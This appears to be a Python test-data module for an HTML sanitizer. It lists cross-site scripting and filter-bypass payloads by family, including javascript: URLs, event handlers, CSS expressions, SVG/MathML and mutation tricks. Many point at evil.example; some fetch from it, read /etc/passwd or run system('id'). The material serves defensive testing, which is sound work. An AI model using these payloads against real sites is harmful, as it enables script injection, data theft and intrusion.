"""Snippets that run a program, load something or change how a page looks, by families; EVIL is where they lead.

The families follow the HTML5 Security Cheatsheet and OWASP's list of ways around filters.
"""

EVIL = "evil.example"
_JAVASCRIPT = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "java\0script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "vbscript:msgbox(1)",
    "livescript:alert(1)", "mocha:alert(1)", "javascript://%0aalert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "\u2028javascript:alert(1)", "&#1;javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "FILE:/etc/passwd", "\\\\evil.example\\share\\x.png", "//evil.example/x", "blob:https://evil.example/1",
    "filesystem:https://evil.example/1", "about:blank", "intent://evil.example#Intent;end", "ms-office:x", "qrc:/x", ":/x",
]  # fmt: skip  # spellings
_ATTRIBUTES = [
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "onanimationend", "ontoggle", "onpointerenter",
    "style", "class", "id", "background", "poster", "lowsrc", "dynsrc", "longdesc", "usemap", "srcset", "data", "codebase",
    "classid", "archive", "profile", "manifest", "icon", "action", "formaction", "ping", "cite", "xlink:href", "xml:base",
    "is", "slot", "nonce", "srcdoc", "target", "download", "autofocus", "contenteditable", "itemid", "about", "resource",
]  # fmt: skip  # names
_STYLES = [
    "background:url(https://evil.example/x)", "background-image:url('//evil.example/x')", "width:expression(alert(1))",
    "behavior:url(https://evil.example/x.htc)", "-moz-binding:url(https://evil.example/x#y)", "position:fixed;top:0",
    "content:url(https://evil.example/x)", "@import 'https://evil.example/x'", "list-style:url(https://evil.example/x)",
    "cursor:url(https://evil.example/x),auto", "font-family:'\\';alert(1)", "\\62 ackground:url(https://evil.example/x)",
]  # fmt: skip  # declarations
_LOADS = [
    "<img src='https://evil.example/x' srcset='https://evil.example/y 2x'>",
    "<picture><source srcset=https://evil.example/x><img></picture>", "<video src=https://evil.example/x autoplay></video>",
    "<audio src=https://evil.example/x></audio>", "<video><source src=https://evil.example/x></video>",
    "<track src=https://evil.example/x>", "<embed src=https://evil.example/x>", "<object data=https://evil.example/x></object>",
    "<iframe src=https://evil.example/x></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example/x></frameset>", "<applet code=x codebase=https://evil.example/></applet>",
    "<link rel=stylesheet href=https://evil.example/x>", "<link rel=preload as=image href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta http-equiv=set-cookie content=a=b>",
    "<base href=https://evil.example/>", "<body background=https://evil.example/x>", "<bgsound src=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>", "<isindex action=javascript:alert(1)>", "<table background=https://evil.example/x>",
    "<td background=https://evil.example/x>", "<style>@import 'https://evil.example/x'</style>",
    "<style>body{background:url(https://evil.example/x)}</style>", "<style>@font-face{src:url(https://evil.example/x)}</style>",
    "<script src=https://evil.example/x></script>", "<script>fetch('https://evil.example/')</script>",
    "<script type=module>import 'https://evil.example/x'</script>", "<html manifest=https://evil.example/x>",
    "<portal src=https://evil.example/x></portal>", "<fencedframe src=https://evil.example/x></fencedframe>",
    "<form action=https://evil.example/><input name=a><button>Go</button></form>", "<button formaction=https://evil.example/>a</button>",
    "<details open ontoggle=alert(1)>a</details>", "<marquee onstart=alert(1)>a</marquee>", "<dialog open>a</dialog>",
    "<select autofocus onfocus=alert(1)><option>a</select>", "<textarea autofocus onfocus=alert(1)>a</textarea>",
    "<keygen autofocus onfocus=alert(1)>", "<image src=x onerror=alert(1)>", "<layer src=https://evil.example/x></layer>",
    "<xml id=x src=https://evil.example/x></xml>", "<?xml-stylesheet href='https://evil.example/x'?>",
    "<!DOCTYPE html SYSTEM 'https://evil.example/x.dtd'>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?php system('id') ?>", "<%= 1 %>", "{{constructor.constructor('alert(1)')()}}",
]  # fmt: skip  # elements
_SVG = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=https://evil.example/x /></svg>",
    "<svg><image href=https://evil.example/x /></svg>", "<svg><use href=https://evil.example/x#y /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>*{background:url(https://evil.example/x)}</style></svg>", "<svg><feImage href=https://evil.example/x /></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><script>alert(1)</script></desc></svg>",
    "<math href=javascript:alert(1)>a</math>", "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
]  # fmt: skip  # other vocabularies
_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<style><a title="</style><img src=x onerror=alert(1)>">',
    "<title><a title='</title><img src=x onerror=alert(1)>'>", "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'>", "<noembed><a title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><a title='</noframes><img src=x onerror=alert(1)>'>", "<iframe><a title='</iframe><img src=x onerror=alert(1)>'>",
    "<plaintext><a title='</plaintext><img src=x onerror=alert(1)>'>", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->", "<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<a href='a`onmouseover=alert(1)'>a</a>", "<img src='``onerror=alert(1)'>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<p <img src=x onerror=alert(1)>>", "<<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">', "<img src=x:x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>", "<img src=x onerror\x00=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script x>alert(1)</script y>", "</script><script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\x0d\x0a>alert(1)</script>", "<script/src=data:,alert(1)></script>", "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>", "<select><template><script>alert(1)</script></template></select>",
    "<table><td><script>alert(1)</script><table>", "<table><caption><svg><style><img src=x onerror=alert(1)></style></table>",
    "<a><table><a href=javascript:alert(1)>", "<b><p><b><p></b><script>alert(1)</script></p></b>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;", "<p title='&lt;img src=x onerror=alert(1)&gt;'>a", "<img alt='&quot;><script>alert(1)</script>'>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>",
    "<div><!--</div><img src=x onerror=alert(1)>-->", "<ruby><rt><script>alert(1)</script></rt></ruby>", "<q><script>alert(1)</script></q>",
    "<custom-element onclick=alert(1)>a</custom-element>", "<a:b onclick=alert(1)>a</a:b>", "<o:p onclick=alert(1)>a</o:p>",
    "<b onclick=alert(1) style=x class=y id=z>a</b>", "<x onclick=alert(1)>a", "<img src=x alt='W' onerror=alert(1)>hen",
]  # fmt: skip  # markup that reads differently the second time


def _snippets() -> dict[str, str]:
    return {
        **{f"link {address!r}": f'<a href="{address}">a</a>' for address in _JAVASCRIPT},
        **{f"picture {address!r}": f'<img src="{address}" alt="a">' for address in _JAVASCRIPT},
        **{f"attribute {name}": f'<p {name}="https://{EVIL}/x">a</p>' for name in _ATTRIBUTES},
        **{f"attribute of a picture {name}": f'<img src="a.jpg" {name}="https://{EVIL}/x">' for name in _ATTRIBUTES},
        **{f"style {style}": f'<div style="{style}">a</div>' for style in _STYLES},
        **{f"load {snippet}": snippet for snippet in _LOADS},
        **{f"vocabulary {snippet}": snippet for snippet in _SVG},
        **{f"mutation {snippet!r}": snippet for snippet in _MUTATIONS},
    }


SNIPPETS = _snippets()


PIECES = [
    *SNIPPETS.values(), "<p>", "</p>", "<div>", "</div>", "<table>", "</table>", "<tr>", "<td>", "</td>", "<ul>", "<li>",
    "</ul>", "<b>", "</b>", "<i>", "</i>", "<a href=x>", "</a>", "<pre>", "\n", "</pre>", "<h1>", "</h1>", "<figure>",
    "</figure>", "<figcaption>", "<blockquote>", "</blockquote>", "<dl>", "<dt>", "<dd>", "<br>", "<hr>", "a", " ", "&",
    "&lt;", "<", ">", '"', "'", "<!--", "-->", "<svg>", "</svg>", "<math>", "<mtext>", "<caption>", "<form>", "</form>",
    "<select>", "<button>", "<nobr>", "<font color=red>", "</font>", "<template>", "<title>", "</title>", "<body>", "<head>",
    "<frameset>", "<col>", "<thead>", "<th>", "<sup>", "<code>", "<em>", "\0", "\u202e", "<p class=MsoListParagraph>",
    "<span style='mso-list:Ignore;font:7.0pt \"Times New Roman\"'>", "<marquee>", "<applet>", "<object>", "<optgroup>",
]  # fmt: skip  # to make mixtures of
